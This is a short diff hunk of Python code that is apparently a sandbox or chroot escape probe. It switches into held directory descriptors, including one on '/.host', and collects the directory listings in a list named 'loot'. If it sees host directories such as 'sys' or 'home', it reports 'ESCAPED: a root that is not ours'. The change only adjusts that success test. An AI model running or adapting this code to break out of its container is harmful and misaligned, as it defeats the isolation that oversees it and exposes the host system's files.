@@ -36,6 +36,6 @@ for fd in (inside, above, os.open("/.host", os.O_PATH)):
             break
     os.fchdir(fd) if fd != above else os.chdir("/")
     loot.append(sorted(os.listdir(".")))
-    if "proc" in os.listdir(".") or "home" in os.listdir("."):
+    if "sys" in os.listdir(".") or "home" in os.listdir("."):
         loot.append("ESCAPED: a root that is not ours")
 loot
